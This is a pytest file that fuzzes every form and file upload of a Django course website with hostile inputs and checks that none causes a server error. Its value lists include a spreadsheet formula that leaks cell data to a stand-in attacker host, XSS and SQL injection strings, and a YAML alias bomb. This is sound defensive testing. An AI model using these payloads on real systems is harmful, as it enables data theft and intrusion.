"""Every form and upload of the site, fed hostile values by a user allowed to use it, answers
without a server error (issue #12: "no input from any role produces a 500").

The forms are not listed by hand: each page below is fetched as a user who may see it, every
<form> in it is read (method, action, fields and their current values, file inputs), and each
field in turn gets each hostile value while the others keep theirs. A new form on these pages is
fuzzed without anyone remembering to add it. Work is bounded: a fixed list of values, and forms
that start background work (a template check) are sent once. Markup inside <template> is inert (a
browser submits none of it): the parts editor's empty row there (part-__prefix__-*, names the
server never reads) is not a field; the rows made from it (part-0-*, ...) are, and are fuzzed.
"""

from __future__ import annotations

import io
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from types import SimpleNamespace
from typing import Any
from urllib.parse import urlsplit

import pytest
from django.test import Client
from django.urls import reverse

from tests.test_authorization_matrix import _kwargs, world  # noqa: F401 (fixture)

pytestmark = pytest.mark.django_db

# (page URL name, which object fills it, who opens it)
PAGES = [
    ("login", "none", "anonymous"),
    ("password_reset_confirm", "reset-link", "anonymous"),
    ("courses:course-join", "none", "outsider"),
    ("courses:course-people", "course", "instructor"),
    ("practice:problem-detail", "instance", "owner"),
    ("gradebook:item-wrong-answers", "item", "instructor"),
    ("gradebook:course-grades-export", "course", "instructor"),
    ("authoring:template-create", "course", "instructor"),
    ("authoring:template-edit", "template", "instructor"),
    ("authoring:set-create", "course", "instructor"),
    ("authoring:set-edit", "set", "instructor"),
    ("authoring:course-import", "course", "instructor"),
]

TEXT_VALUES = [
    "",
    "\x00",
    "a\x00b",
    "x" * 100_000,
    '=HYPERLINK("http://e.vil/?"&A2,"x")',
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "9" * 400,
    "-1",
    "1e309",
    "NaN",
    "2026-13-45",
    "2026-02-30T10:00:00Z",
    "ｓｔｕｄｅｎｔ３",
    "\u202e\u200b\ufeff",
    "𝑥² + ∂f/∂x",
    "a^a^a^a^a^a^a^a",
    "{a}" * 500,
]

FILE_VALUES = [
    ("empty.csv", b""),
    ("junk.bin", bytes(range(256)) * 64),
    ("utf16.csv", "이름,이메일,학번\r\n홍길동,h@k.kr,1\r\n".encode("utf-16")),
    ("utf16-nobom.csv", "name,email\r\n".encode("utf-16-le")),
    ("cr-only.csv", b"name,email,student id\rA,a@b.c,1\r"),
    ("nul.csv", b"name,email\x00,student id\r\n"),
    ("big-field.csv", b'name,email\r\n"' + b"x" * 200_000 + b'",a@b.c\r\n'),
    ("formula.csv", b'name,email,student id\r\nA,a@b.c,"=HYPERLINK(""http://e.vil"")"\r\n'),
    ("alias-bomb.yaml", b"a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a]\n"),
    ("deep.yaml", b"[" * 5000 + b"]" * 5000),
    ("tabs.yaml", b"\tformat: 1\n"),
    ("header-only.csv", b"name,email,student id"),
]

# Forms whose submission starts background work: sent once, with their own values.
ONCE = ("template-check",)


@dataclass
class Form:
    method: str
    action: str
    fields: dict[str, str] = field(default_factory=dict)
    files: list[str] = field(default_factory=list)


class _Forms(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.forms: list[Form] = []
        self._select: str | None = None
        self._textarea: str | None = None
        self._templates = 0  # depth inside <template>: inert markup, not fields of the form

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "template":
            self._templates += 1
            return
        if self._templates:
            return
        if tag == "form":
            method = "post" if "hx-post" in a else (a.get("method") or "get").lower()
            action = a.get("action") or a.get("hx-post") or a.get("hx-get") or ""
            self.forms.append(Form(method, action))
            return
        if not self.forms or not a.get("name"):
            return
        form, name = self.forms[-1], a["name"]
        if tag == "input":
            kind = a.get("type", "text").lower()
            if kind == "file":
                form.files.append(name)
            elif kind in ("checkbox", "radio"):
                if "checked" in a:
                    form.fields[name] = a.get("value", "on")
                else:
                    form.fields.setdefault(name, "")
            elif kind not in ("submit", "button", "reset", "image"):
                form.fields[name] = a.get("value", "")
        elif tag == "textarea":
            form.fields[name] = ""
            self._textarea = name
        elif tag == "select":
            form.fields[name] = ""
            self._select = name
        elif tag == "button" and a.get("value"):
            form.fields.setdefault(name, a["value"])

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        if self._textarea and self.forms:
            self.forms[-1].fields[self._textarea] += data

    def handle_endtag(self, tag: str) -> None:
        if tag == "template":
            self._templates = max(0, self._templates - 1)
        elif tag == "textarea":
            self._textarea = None
        elif tag == "select":
            self._select = None


def _option_values(html: str) -> dict[str, str]:
    """The first (or selected) option of each select: a valid starting value."""
    chosen: dict[str, str] = {}

    class _Options(HTMLParser):
        select: str | None = None

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            a = {k: v or "" for k, v in attrs}
            if tag == "select":
                self.select = a.get("name")
            elif tag == "option" and self.select:
                if self.select not in chosen or "selected" in a:
                    chosen[self.select] = a.get("value", "")

        def handle_endtag(self, tag: str) -> None:
            if tag == "select":
                self.select = None

    _Options().feed(html)
    return chosen


def _client(w: SimpleNamespace, actor: str) -> Client:
    client = Client()
    if actor != "anonymous":
        client.force_login(w.users[actor])
    return client


def _forms(client: Client, w: SimpleNamespace, name: str, target: str) -> list[Form]:
    response = client.get(reverse(name, kwargs=_kwargs(w, target)), follow=True)
    assert response.status_code == 200, (name, response.status_code)
    url = response.request["PATH_INFO"]  # after redirects (a set-password link moves once)
    html = response.content.decode()
    parser = _Forms()
    parser.feed(html)
    options = _option_values(html)
    for form in parser.forms:
        form.action = form.action or url
        for select, value in options.items():
            if select in form.fields and not form.fields[select]:
                form.fields[select] = value
    return parser.forms


def _send(client: Client, form: Form, data: dict[str, Any]) -> Any:
    path = urlsplit(form.action)
    target = path.path + (f"?{path.query}" if path.query else "")
    if form.method == "post":
        return client.post(target, data)
    return client.get(target, {k: v for k, v in data.items() if isinstance(v, str)})


def _cases() -> Iterator[Any]:
    for name, target, actor in PAGES:
        yield pytest.param(name, target, actor, id=name)


@pytest.mark.parametrize(("name", "target", "actor"), list(_cases()))
def test_hostile_values_in_every_form_never_cause_a_server_error(
    world: SimpleNamespace,  # noqa: F811
    name: str,
    target: str,
    actor: str,
) -> None:
    client = _client(world, actor)
    forms = _forms(client, world, name, target)
    fuzzed = [f for f in forms if f.method in ("get", "post") and "logout" not in f.action]
    assert fuzzed, f"{name}: no form found"
    sent = 0
    for form in fuzzed:
        if "/i18n/" in form.action:
            continue
        base = {k: v for k, v in form.fields.items() if k != "csrfmiddlewaretoken"}
        if any(once in form.action for once in ONCE):
            response = _send(client, form, base)
            assert response.status_code < 500, (form.action, response.status_code)
            continue
        for field_name in base:
            for value in TEXT_VALUES:
                response = _send(client, form, {**base, field_name: value})
                sent += 1
                assert response.status_code < 500, (form.action, field_name, value[:40])
        for file_field in form.files:
            for filename, content in FILE_VALUES:
                upload = io.BytesIO(content)
                upload.name = filename
                response = _send(client, form, {**base, file_field: upload})
                sent += 1
                assert response.status_code < 500, (form.action, file_field, filename)
    assert sent > 0 or all(any(o in f.action for o in ONCE) for f in fuzzed)


def test_hostile_answers_in_the_preview_never_cause_a_server_error(
    world: SimpleNamespace,  # noqa: F811
) -> None:
    """The preview is not a form of its own (the answer box asks it as one types)."""
    client = _client(world, "owner")
    url = reverse("practice:problem-preview", kwargs=_kwargs(world, "instance"))
    for value in TEXT_VALUES:
        response = client.get(url, {"answer": value})
        assert response.status_code < 500, value[:40]
